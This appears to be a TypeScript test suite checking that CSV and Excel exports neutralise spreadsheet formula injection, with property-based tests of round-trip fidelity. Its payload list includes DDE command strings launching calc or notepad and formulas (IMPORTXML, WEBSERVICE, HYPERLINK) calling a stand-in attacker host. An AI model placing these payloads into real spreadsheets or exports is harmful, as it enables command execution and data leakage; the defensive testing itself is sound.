/** Text that a spreadsheet would take for a formula leaves as text; numbers leave as numbers. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { writeCsv } from '#lib/server/exports/csv.ts';
import { guardText, type Cover, type Sheet } from '#lib/server/exports/sheet.ts';
import { readWorkbook } from '#lib/documents/xlsx/xlsx.ts';
import { writeWorkbook } from '#lib/server/exports/xlsx.ts';
import { openCsv, openXlsx, worksheetXml } from './opened.ts';

const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
const UNSEEN = [
	'',
	' ',
	'\t',
	'\u3000',
	'\u00a0',
	'\u200b',
	'\u2060',
	'\ufeff',
	'\u202e',
	'\u00ad'
];
const BODIES = ['1+1', "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","点此")'];

/** Every way to begin, behind every unseen character, and the payloads that are known from practice. */
const PAYLOADS = [
	...STARTS.flatMap((start) => UNSEEN.map((unseen) => `${unseen}${start}${BODIES[0] ?? ''}`)),
	...STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`)),
	'@SUM(1+1)*cmd|calc!A0',
	'-2+3+cmd|calc!A0',
	'\t=1+1',
	'\r=1+1',
	'\n=1+1',
	'=IMPORTXML("http://evil.example","//a")',
	'=WEBSERVICE("http://evil.example")',
	"+cmd|' /C notepad'!'A1'",
	'-',
	'=',
	'\u200b\u200b =1'
];

const COVER: Cover = {
	title: '=1+1',
	lines: [
		['地区', '@SUM(1)'],
		['=2', '部门']
	]
};

function sheetOf(texts: readonly string[]): Sheet {
	return {
		name: '数据',
		columns: [
			{ name: '=部门', unit: '', format: 'text' },
			{ name: '支出', unit: '元', format: 'money' }
		],
		rows: texts.map((text, index) => [text, -1206.04 - index])
	};
}

test(`there are ${PAYLOADS.length} payloads, no two alike`, () => {
	expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(100);
});

describe('CSV', () => {
	const records = openCsv(writeCsv(sheetOf(PAYLOADS), COVER));

	test.each(PAYLOADS.map((payload, index) => [JSON.stringify(payload), payload, index] as const))(
		'%s is shown, not run',
		(_, payload, index) => {
			expect(records[index + 1]).toEqual([`'${payload}`, String(-1206.04 - index)]);
		}
	);

	test('heads and the cover are guarded too', () => {
		expect(records[0]).toEqual(["'=部门", '支出（元）']);
		expect(records.slice(-4, -1)).toEqual([["'=1+1"], ['地区', "'@SUM(1)"], ["'=2", '部门']]);
	});

	test.each(['示例市教育局', '1+1', 'a=b', '（= 1）', '报告-2023', '“=1”', ''])(
		'%s is left alone',
		(text) => {
			expect(guardText(text)).toBe(text);
		}
	);
});

describe('Excel', async () => {
	const bytes = await writeWorkbook([sheetOf(PAYLOADS)], COVER);
	const rows = (await openXlsx(bytes)).get('数据') ?? [];

	test('no cell holds a formula, and no link leads out', () => {
		const xml = worksheetXml(bytes);
		expect(xml.length).toBeGreaterThanOrEqual(2);
		for (const part of xml) expect(part).not.toMatch(/<(f|hyperlink)[\s>/]/);
	});

	test.each(PAYLOADS.map((payload, index) => [JSON.stringify(payload), payload, index] as const))(
		'%s comes back as text',
		(_, payload, index) => {
			const [text, amount] = rows[index + 1] ?? [];
			// XML knows one kind of line end.
			expect(String(text).replaceAll(/\r\n?/g, '\n')).toBe(payload.replaceAll('\r', '\n'));
			expect(amount).toBe(-1206.04 - index);
		}
	);
});

test('random tables survive export and opening, negatives and control characters included', async () => {
	const text = fc.oneof(
		fc.string({ unit: 'binary', maxLength: 30 }),
		fc.constantFrom(...PAYLOADS),
		fc.constantFrom('<b>&amp;"\'', 'a\u0000b', '\ufffe', '\u0001', ']]>', '_x0041_', '\ud83d')
	);
	const cell = fc.oneof(
		text,
		fc.integer({ min: -1e15, max: 1e15 }).map((fen) => fen / 100),
		fc.constant(null)
	);
	await fc.assert(
		fc.asyncProperty(
			fc.array(fc.tuple(text, cell), { minLength: 1, maxLength: 8 }),
			async (rows) => {
				const sheet: Sheet = { ...sheetOf([]), rows: rows.map((row) => [...row]) };
				const bytes = await writeWorkbook([sheet], COVER);
				// The intake's reader takes only well-formed XML, as Excel does.
				expect(readWorkbook(bytes).sheets).toHaveLength(2);
				const opened = (await openXlsx(bytes)).get('数据') ?? [];
				const csv = openCsv(writeCsv(sheet, COVER));
				rows.forEach(([, value], index) => {
					if (typeof value !== 'number') return;
					expect(opened[index + 1]?.[1]).toBe(value);
					expect(Number(csv[index + 1]?.[1])).toBe(value);
				});
			}
		),
		{ numRuns: 100 }
	);
});
